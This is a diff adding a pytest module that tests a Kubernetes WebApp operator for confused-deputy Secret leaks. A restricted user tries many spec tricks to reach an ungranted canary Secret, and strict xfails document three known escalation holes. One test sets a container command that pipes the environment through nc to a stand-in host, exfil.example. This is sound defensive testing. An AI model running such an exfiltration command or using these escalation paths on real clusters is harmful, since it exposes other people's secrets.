@@ -1,0 +1,569 @@
+"""Nobody reads a Secret they were not granted, through the operator (invariants 2 and 5).
+
+Mallory is a real restricted user: a ServiceAccount token from the TokenRequest API, with a
+Role that may create/get/list/watch/update WebApps and get/list Deployments, ReplicaSets,
+Pods and Events, and nothing on Secrets. The cluster holds a canary value in Secrets she was
+not granted. She tries every way to make the operator copy it somewhere she can read, or into
+an environment snapshot her pods would mount; each attempt must end in a clear condition.
+Then, as her, everything she can read is searched for the canary (plain and base64), and, as
+admin, every environment snapshot her apps' Deployments name.
+
+One scene (namespaces, RBAC, the operator, the victim apps, all of Mallory's attempts created
+together) is shared by the module; each attempt is its own test. Attempts that do leak are
+strict xfails (`KnownLeakError`) describing the hole; docs/reliability.md has the table.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import subprocess
+import sys
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from lightkube import ApiError, Client
+from lightkube.models.meta_v1 import ObjectMeta
+from lightkube.resources.apps_v1 import Deployment, ReplicaSet
+from lightkube.resources.core_v1 import Event, Namespace, Pod, Secret
+from lightkube.resources.rbac_authorization_v1 import Role, RoleBinding
+from tests.cluster import opkit, support
+from tests.cluster.support import BackgroundProcess, ServiceAccountIdentity, wait_for
+
+pytestmark = pytest.mark.timeout(600)
+
+CANARY = "canary-deputy-7f3a9c1e5b"
+CANARY_B64 = base64.b64encode(CANARY.encode()).decode()
+KUBECTL_WEBAPP = str(Path(sys.executable).parent / "kubectl-webapp")
+TEST_LABEL = "twelvefactor.dev/test"
+
+
+class KnownLeakError(AssertionError):
+    """What a strict xfail of this module expects: the leak it pins."""
+
+
+def app_spec(**extra: Any) -> dict[str, Any]:
+    return {"framework": "flask", "image": "mallory/app:1", **extra}
+
+
+def secret_ref(name: str, **extra: Any) -> dict[str, Any]:
+    return {"secrets": {"creds": {"secretName": name, **extra}}}
+
+
+# --------------------------------------------------------------------------------------------
+# The attempts: (test id, WebApp name, spec, expected Ready reason, what it tries)
+
+
+@dataclass(frozen=True)
+class Attempt:
+    id: str
+    app: str
+    spec: dict[str, Any]
+    reason: str
+    what: str
+
+
+def attempts(scene: Scene) -> list[Attempt]:
+    """Built from the scene: some names (snapshots) are only known once the victim runs."""
+    other, victim_env = scene.other, scene.victim_env
+    return [
+        Attempt("secrets", "m-secrets", app_spec(**secret_ref("canary-src")),
+                "SecretNotGranted", "spec.secrets names the ungranted Secret"),
+        Attempt("integrations", "m-integrations",
+                app_spec(integrations={"postgresql": {"secretName": "canary-src"}}),
+                "SecretNotGranted", "spec.integrations names it"),
+        Attempt("pinned-revision", "m-pinned",
+                app_spec(**secret_ref("canary-src", revision=1)),
+                "SecretNotGranted", "a pin to its revision 1"),
+        Attempt("app-secret-key-id", "m-key-id",
+                app_spec(secrets={"app-secret-key-id": {"secretName": "canary-src"}}),
+                "SecretNotGranted", "app-secret-key-id names it"),
+        Attempt("not-opted-in", "m-unlabelled", app_spec(**secret_ref("plain-canary")),
+                "SecretNotFound", "a Secret not opted in to tracking (no label)"),
+        Attempt("cross-namespace-same-name", "shop",
+                app_spec(**secret_ref(f"{other}/cross-canary")),
+                "SecretNotGranted",
+                f"WebApp `shop`, named like the app {other}/shop the Secret is granted to"),
+        Attempt("cross-namespace-wildcard", "m-wildcard",
+                app_spec(**secret_ref(f"{other}/wild-canary")),
+                "SecretNotGranted", f"{other}/wild-canary grants `*` (its own namespace only)"),
+        Attempt("revision-snapshot", "m-revision", app_spec(**secret_ref("canary-src.rev-1")),
+                "SecretNotFound", "the revision snapshot canary-src.rev-1, by name"),
+        Attempt("env-snapshot", "m-env", app_spec(**secret_ref(victim_env)),
+                "SecretNotFound", f"the victim's environment snapshot {victim_env}, by name"),
+        Attempt("app-secret-key", "m-secret-key", app_spec(**secret_ref("victim.secret-key")),
+                "SecretNotGranted", "the victim's app secret key victim.secret-key"),
+        Attempt("owned-secret", "m-owned", app_spec(**secret_ref("victim.token")),
+                "SecretNotGranted", "the victim's owned secret victim.token"),
+        Attempt("operator-keys", "m-operator-keys",
+                app_spec(**secret_ref("webapp-operator-keys")),
+                "SecretNotFound", "the operator's snapshot key Secret webapp-operator-keys"),
+        Attempt("sealing-keys", "m-sealing-keys",
+                app_spec(**secret_ref("webapp-operator-sealing-keys")),
+                "SecretNotFound", "the operator's sealing keys webapp-operator-sealing-keys"),
+        Attempt("owned-name-opted-in", "m-adopt",
+                app_spec(ownedSecrets={"loot": {"keys": ["password"]}}),
+                "InvalidConfig",
+                "ownedSecrets `loot` where the opted-in Secret m-adopt.loot already exists"),
+        Attempt("owned-name-plain", "m-adopt-plain",
+                app_spec(ownedSecrets={"loot": {"keys": ["password"]}}),
+                "InvalidConfig",
+                "ownedSecrets `loot` where the plain Secret m-adopt-plain.loot already exists"),
+    ]  # fmt: skip
+
+
+# --------------------------------------------------------------------------------------------
+# The scene
+
+
+@dataclass
+class Scene:
+    admin: Client
+    kubeconfig: Path
+    ns: str
+    other: str
+    operator: BackgroundProcess
+    mallory: ServiceAccountIdentity
+    workdir: Path
+    victim_env: str = ""
+    created: dict[str, Attempt] = field(default_factory=dict)
+
+    def condition(self, app: str, namespace: str | None = None) -> dict[str, Any]:
+        body = opkit.as_dict(self.admin.get(opkit.WebApp, app, namespace=namespace or self.ns))
+        for cond in (body.get("status") or {}).get("conditions") or []:
+            if cond.get("type") == "Ready":
+                return dict(cond)
+        return {}
+
+    def wait_ready(self, app: str, namespace: str | None = None) -> None:
+        wait_for(
+            lambda: self.condition(app, namespace).get("status") == "True",
+            120,
+            message=f"{app} Ready",
+            ignore=(ApiError,),
+        )
+
+    def secret(
+        self,
+        name: str,
+        data: dict[str, str],
+        namespace: str | None = None,
+        grant: str | None = None,
+        opted_in: bool = False,
+    ) -> None:
+        """A Secret as its owner (admin) writes it: opted in or not, granted or not."""
+        meta: dict[str, Any] = {"name": name, "namespace": namespace or self.ns}
+        if opted_in:
+            meta["labels"] = {"twelvefactor.dev/secret": "true"}
+        if grant is not None:
+            meta["annotations"] = {"twelvefactor.dev/grant": grant}
+        body = {
+            "apiVersion": "v1",
+            "kind": "Secret",
+            "metadata": meta,
+            "type": "Opaque",
+            "data": {k: base64.b64encode(v.encode()).decode() for k, v in data.items()},
+        }
+        opkit.apply(self.admin, Secret, body)
+
+    def webapp(self, client: Client, name: str, spec: dict[str, Any]) -> None:
+        body = {
+            "apiVersion": "twelvefactor.dev/v1alpha1",
+            "kind": "WebApp",
+            "metadata": {"name": name, "namespace": self.ns},
+            "spec": spec,
+        }
+        obj: Any = opkit.WebApp.from_dict(body)
+        client.create(obj)
+
+    def env_of(self, name: str) -> dict[str, str]:
+        body = opkit.as_dict(self.admin.get(Secret, name, namespace=self.ns))
+        return {k: base64.b64decode(v).decode() for k, v in (body.get("data") or {}).items()}
+
+    def referenced_snapshots(self, app: str) -> set[str]:
+        """Every Secret the app's Deployments and ReplicaSets name in envFrom (as admin)."""
+        names: set[str] = set()
+        selector: Any = {"twelvefactor.dev/webapp": app}
+        for res in (Deployment, ReplicaSet):
+            for obj in self.admin.list(res, namespace=self.ns, labels=selector):
+                body = opkit.as_dict(obj)
+                for container in body["spec"]["template"]["spec"]["containers"]:
+                    for source in container.get("envFrom") or []:
+                        if source.get("secretRef"):
+                            names.add(source["secretRef"]["name"])
+        return names
+
+
+def _role(namespace: str, name: str, rules: list[dict[str, Any]]) -> dict[str, Any]:
+    return {
+        "apiVersion": "rbac.authorization.k8s.io/v1",
+        "kind": "Role",
+        "metadata": {"name": name, "namespace": namespace},
+        "rules": rules,
+    }
+
+
+def _binding(namespace: str, name: str, account: str) -> dict[str, Any]:
+    return {
+        "apiVersion": "rbac.authorization.k8s.io/v1",
+        "kind": "RoleBinding",
+        "metadata": {"name": name, "namespace": namespace},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
+        "subjects": [{"kind": "ServiceAccount", "name": account, "namespace": namespace}],
+    }
+
+
+MALLORY_RULES = [
+    {
+        "apiGroups": ["twelvefactor.dev"],
+        "resources": ["webapps"],
+        "verbs": ["create", "get", "list", "watch", "update"],
+    },
+    {
+        "apiGroups": ["apps"],
+        "resources": ["deployments", "replicasets"],
+        "verbs": ["get", "list"],
+    },
+    {"apiGroups": [""], "resources": ["pods", "events"], "verbs": ["get", "list"]},
+    {"apiGroups": ["events.k8s.io"], "resources": ["events"], "verbs": ["get", "list"]},
+]
+
+
+@pytest.fixture(scope="module")
+def scene(
+    kube: Client, kubeconfig: Path, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Scene]:
+    suffix = uuid.uuid4().hex[:6]
+    ns, other = f"t-deputy-{suffix}", f"t-deputy-other-{suffix}"
+    workdir = tmp_path_factory.mktemp("deputy")
+    for name in (ns, other):
+        kube.create(Namespace(metadata=ObjectMeta(name=name, labels={TEST_LABEL: "true"})))
+    operator = BackgroundProcess(
+        name="operator",
+        argv=[
+            opkit.WEBAPP_CLI, "run", "--debug", "--operator-namespace", ns,
+            "--namespace", ns, "--namespace", other, "--metrics-port", "0",
+        ],
+        log_path=workdir / "operator.log",
+        env=support.tool_env(kubeconfig),
+    )  # fmt: skip
+    try:
+        opkit.install_crd(kube)
+        operator.start()
+        operator.wait_for_log(r"webapp-operator started", timeout=60)
+        opkit.apply(kube, Role, _role(ns, "mallory", MALLORY_RULES))
+        opkit.apply(kube, RoleBinding, _binding(ns, "mallory", "mallory"))
+        mallory = support.service_account_identity(kube, kubeconfig, ns, "mallory", workdir)
+        built = Scene(kube, kubeconfig, ns, other, operator, mallory, workdir)
+        _stage(built)
+        yield built
+        mallory.client.close()
+    finally:
+        operator.stop()
+        for name in (ns, other):
+            try:
+                kube.delete(Namespace, name)
+            except ApiError as error:
+                if not support.is_not_found(error):
+                    raise
+
+
+def _stage(scene: Scene) -> None:
+    """The admin's Secrets and victim apps, then every one of Mallory's attempts at once."""
+    canary = {"password": CANARY}
+    scene.secret("canary-src", canary, grant="victim", opted_in=True)
+    scene.secret("plain-canary", canary)
+    scene.secret("m-adopt.loot", canary, opted_in=True)  # opted in, but owned by nobody
+    scene.secret("m-adopt-plain.loot", canary)  # a plain Secret with an owned secret's name
+    # Granted to other/shop (a bare name is the Secret's namespace), never to ns/shop.
+    scene.secret("cross-canary", canary, scene.other, grant="shop", opted_in=True)
+    scene.secret("wild-canary", canary, scene.other, grant="*", opted_in=True)
+    victim = app_spec(**secret_ref("canary-src"), ownedSecrets={"token": {"keys": ["token"]}})
+    scene.webapp(scene.admin, "victim", victim)
+    scene.wait_ready("victim")
+    status = opkit.as_dict(scene.admin.get(opkit.WebApp, "victim", namespace=scene.ns))["status"]
+    scene.victim_env = str(status["environment"])
+    assert scene.env_of(scene.victim_env)["FLASK_CREDS_PASSWORD"] == CANARY  # the bait is real
+    for attempt in attempts(scene):
+        scene.webapp(scene.mallory.client, attempt.app, attempt.spec)
+        scene.created[attempt.id] = attempt
+
+
+# --------------------------------------------------------------------------------------------
+# Each attempt ends in a clear condition, and nothing she could mount holds the canary
+
+
+NEVER_A_CONDITION = {"owned-name-plain"}
+NO_CONDITION = pytest.mark.xfail(
+    strict=True,
+    raises=support.WaitTimeoutError,
+    reason="bug: an ownedSecrets name taken by a Secret the operator does not watch (not opted "
+    "in) is never adopted, but the app waits for it forever with no condition: _ensure_owned "
+    "ignores create()'s False and returns pending (reconcile.py)",
+)
+ATTEMPT_IDS = [
+    "secrets",
+    "integrations",
+    "pinned-revision",
+    "app-secret-key-id",
+    "not-opted-in",
+    "cross-namespace-same-name",
+    "cross-namespace-wildcard",
+    "revision-snapshot",
+    "env-snapshot",
+    "app-secret-key",
+    "owned-secret",
+    "operator-keys",
+    "sealing-keys",
+    "owned-name-opted-in",
+    pytest.param("owned-name-plain", marks=NO_CONDITION),
+]
+
+
+def canary_free_snapshots(scene: Scene, app: str) -> None:
+    for name in scene.referenced_snapshots(app):
+        try:
+            values = scene.env_of(name)
+        except ApiError as error:
+            if support.is_not_found(error):
+                continue  # a pod cannot start on a missing Secret
+            raise
+        assert CANARY not in json.dumps(values), f"{app}'s pods would mount {name} with it"
+
+
+def foreign_untouched(scene: Scene, name: str) -> None:
+    """A Secret the operator must neither adopt nor change: same data, none of its marks."""
+    body = opkit.as_dict(scene.admin.get(Secret, name, namespace=scene.ns))
+    assert body["data"] == {"password": CANARY_B64}, f"{name} was overwritten"
+    meta = body["metadata"]
+    assert "twelvefactor.dev/owned-by" not in (meta.get("labels") or {}), f"{name} adopted"
+    assert not meta.get("ownerReferences"), f"{name} adopted"
+    assert "twelvefactor.dev/generate" not in (meta.get("annotations") or {}), f"{name} adopted"
+
+
+@pytest.mark.parametrize("attempt_id", ATTEMPT_IDS)
+def test_attempt_ends_in_a_clear_condition(scene: Scene, attempt_id: str) -> None:
+    attempt = scene.created[attempt_id]
+    try:
+        cond = wait_for(
+            lambda: (c := scene.condition(attempt.app)).get("reason") == attempt.reason and c,
+            30,
+            message=f"{attempt.app}: Ready=False {attempt.reason} ({attempt.what}); now "
+            f"{scene.condition(attempt.app)}",
+            ignore=(ApiError,),
+        )
+    finally:
+        # Whatever the condition says, nothing was copied where her pods could read it.
+        assert scene.referenced_snapshots(attempt.app) == set(), "a Deployment was made"
+        canary_free_snapshots(scene, attempt.app)
+        if attempt_id.startswith("owned-name"):
+            foreign_untouched(scene, f"{attempt.app}.loot")
+    assert cond["status"] == "False"
+    assert CANARY not in cond["message"]
+
+
+# --------------------------------------------------------------------------------------------
+# Ways that do get her pods the value: strict xfails, each describing the hole
+#
+# They use another canary, so that the attempts above and the final scan stay meaningful.
+
+LEAK_CANARY = "canary-deputy-leak-41d0e2"
+
+
+def runs_with(scene: Scene, app: str, image: str) -> str | None:
+    """The snapshot of `app`'s Deployment if it runs `image` on a snapshot with LEAK_CANARY."""
+    selector: Any = {"twelvefactor.dev/webapp": app}
+    for obj in scene.admin.list(Deployment, namespace=scene.ns, labels=selector):
+        pod = opkit.as_dict(obj)["spec"]["template"]["spec"]
+        for container in pod["containers"]:
+            for source in container.get("envFrom") or []:
+                name = (source.get("secretRef") or {}).get("name")
+                if container["image"] == image and name and LEAK_CANARY in str(scene.env_of(name)):
+                    return str(name)
+    return None
+
+
+@pytest.mark.xfail(
+    strict=True,
+    raises=KnownLeakError,
+    reason="hole: spec.serviceAccountName lets anyone who may create a WebApp run pods (their "
+    "image, their command) as any ServiceAccount of the namespace, e.g. one that may read "
+    "Secrets; render.py _deployment copies it unchecked",
+)
+def test_pods_as_another_service_account(scene: Scene) -> None:
+    ns = scene.ns
+    scene.secret("sa-canary", {"password": LEAK_CANARY})
+    reader = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]
+    opkit.apply(scene.admin, Role, _role(ns, "secret-reader", reader))
+    opkit.apply(scene.admin, RoleBinding, _binding(ns, "secret-reader", "secret-reader"))
+    support.service_account_identity(
+        scene.admin, scene.kubeconfig, ns, "secret-reader", scene.workdir
+    ).client.close()
+    # Mallory herself may not read it; the ServiceAccount may.
+    with pytest.raises(ApiError) as denied:
+        scene.mallory.client.get(Secret, "sa-canary", namespace=ns)
+    assert support.api_status(denied.value) == 403
+    spec = app_spec(serviceAccountName="secret-reader", image="mallory/exfil:1")
+    scene.webapp(scene.mallory.client, "m-service-account", spec)
+
+    def outcome() -> str | None:
+        cond = scene.condition("m-service-account")
+        if cond.get("status") == "False" and cond.get("reason") != "RolloutInProgress":
+            return "refused"
+        selector: Any = {"twelvefactor.dev/webapp": "m-service-account"}
+        for obj in scene.admin.list(Deployment, namespace=ns, labels=selector):
+            pod = opkit.as_dict(obj)["spec"]["template"]["spec"]
+            if pod.get("serviceAccountName") == "secret-reader":
+                return "runs as secret-reader"
+        return None
+
+    result = wait_for(outcome, 60, message="the operator to act on m-service-account")
+    if result != "refused":
+        raise KnownLeakError(
+            "m-service-account's pods run mallory/exfil:1 as ServiceAccount secret-reader, "
+            "whose token reads Secret sa-canary: Mallory has no access to it"
+        )
+
+
+@pytest.mark.xfail(
+    strict=True,
+    raises=KnownLeakError,
+    reason="hole: `update` on WebApps is read access to every Secret granted to any app of the "
+    "namespace: the operator rolls a granted app to the image and command of whoever edits it",
+)
+def test_updating_a_granted_app(scene: Scene) -> None:
+    scene.secret("payroll-db", {"password": LEAK_CANARY}, grant="payroll", opted_in=True)
+    scene.webapp(scene.admin, "payroll", app_spec(image="payroll:1", **secret_ref("payroll-db")))
+    scene.wait_ready("payroll")
+    # Mallory edits it, as her Role allows (an update with the resourceVersion she read).
+    body = opkit.as_dict(scene.mallory.client.get(opkit.WebApp, "payroll", namespace=scene.ns))
+    body["spec"]["image"] = "mallory/exfil:1"
+    body["spec"]["processes"] = {"web": {"command": ["sh", "-c", "env | nc exfil.example 80"]}}
+    scene.mallory.client.replace(opkit.WebApp.from_dict(body))
+    snapshot = wait_for(
+        lambda: (
+            runs_with(scene, "payroll", "mallory/exfil:1")
+            or scene.condition("payroll").get("reason") not in ("Available", "RolloutInProgress")
+        ),
+        60,
+        message="the operator to act on the edited payroll",
+    )
+    if isinstance(snapshot, str):
+        raise KnownLeakError(
+            f"payroll's pods now run mallory/exfil:1 with {snapshot}, which holds payroll-db"
+        )
+
+
+@pytest.mark.xfail(
+    strict=True,
+    raises=KnownLeakError,
+    reason="hole: a grant names an app; whoever first creates a WebApp of that name in the "
+    "namespace reads the Secret (a grant made before its app is deployed, or after it was "
+    "deleted)",
+)
+def test_a_grant_to_an_app_not_yet_deployed(scene: Scene) -> None:
+    scene.secret("billing-db", {"password": LEAK_CANARY}, grant="billing", opted_in=True)
+    spec = app_spec(image="mallory/exfil:1", **secret_ref("billing-db"))
+    scene.webapp(scene.mallory.client, "billing", spec)
+    snapshot = wait_for(
+        lambda: (
+            runs_with(scene, "billing", "mallory/exfil:1")
+            or scene.condition("billing").get("reason") == "SecretNotGranted"
+        ),
+        60,
+        message="the operator to act on billing",
+        ignore=(ApiError,),
+    )
+    if isinstance(snapshot, str):
+        raise KnownLeakError(f"Mallory's billing runs mallory/exfil:1 with {snapshot}")
+
+
+# --------------------------------------------------------------------------------------------
+# Everything she can read, read as her
+
+
+def _needles() -> list[str]:
+    return [
+        needle
+        for value in (CANARY, LEAK_CANARY)
+        for needle in (value, base64.b64encode(value.encode()).decode())
+    ]
+
+
+def _hits(where: str, text: str) -> list[str]:
+    return [f"{where}: {needle[:8]}..." for needle in _needles() if needle in text]
+
+
+def _cli(scene: Scene, *args: str) -> subprocess.CompletedProcess[str]:
+    env = support.tool_env(scene.mallory.kubeconfig)
+    return subprocess.run(
+        [KUBECTL_WEBAPP, *args],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+
+
+def test_nothing_she_can_read_holds_the_canary(scene: Scene) -> None:
+    ns, mallory = scene.ns, scene.mallory.client
+    # Everything settled: every attempt has its condition (but the one known to get none).
+    for attempt in scene.created.values():
+        if attempt.id in NEVER_A_CONDITION:
+            continue
+        wait_for(lambda a=attempt: scene.condition(a.app).get("status"), 60,  # type: ignore[misc]
+                 message=f"{attempt.app} to have a condition")  # fmt: skip
+    with pytest.raises(ApiError) as denied:
+        list(mallory.list(Secret, namespace=ns))
+    assert support.api_status(denied.value) == 403, "Mallory must not list Secrets"
+
+    hits: list[str] = []
+    apps = [opkit.as_dict(w) for w in mallory.list(opkit.WebApp, namespace=ns)]
+    assert len(apps) >= len(scene.created)
+    for res in (opkit.WebApp, Deployment, ReplicaSet, Pod, Event):
+        for obj in mallory.list(res, namespace=ns):
+            body = opkit.as_dict(obj)
+            hits += _hits(f"{res.__name__}/{body['metadata']['name']}", json.dumps(body))
+
+    # The CLI with her kubeconfig: status of every app, and the Secret commands (refused).
+    for app in apps:
+        name = app["metadata"]["name"]
+        done = _cli(scene, "status", name, "-n", ns, "-o", "yaml")
+        assert done.returncode == 0, done.stderr
+        hits += _hits(f"status {name}", done.stdout + done.stderr)
+    for args in (
+        ("secrets", "-n", ns),
+        ("show-secret", "canary-src", "--reveal", "--revisions", "-n", ns),
+        ("show-secret", "victim.secret-key", "--reveal", "-n", ns),
+    ):
+        done = _cli(scene, *args)
+        assert done.returncode != 0, f"{args}: she may not read Secrets"
+        hits += _hits(" ".join(args), done.stdout + done.stderr)
+    # `render` of every WebApp she can read, values revealed: she has no Secret to give it.
+    exported = scene.workdir / "webapps.yaml"
+    exported.write_text(yaml.safe_dump_all(apps))
+    done = _cli(scene, "render", "-f", str(exported), "--reveal", "-n", ns)
+    hits += _hits("render --reveal", done.stdout + done.stderr)
+    # And kubectl itself, as her.
+    kubectl = subprocess.run(
+        ["kubectl", "get", "webapps,deployments,replicasets,pods,events", "-n", ns, "-o", "yaml"],
+        env=support.tool_env(scene.mallory.kubeconfig),
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+    )
+    hits += _hits("kubectl get -o yaml", kubectl.stdout)
+    assert hits == []
+
+    # As admin: the operator's log, and every environment snapshot of her attempts' apps.
+    hits += _hits("operator log", scene.operator.log_text())
+    for attempt in scene.created.values():
+        canary_free_snapshots(scene, attempt.app)
+    assert hits == []
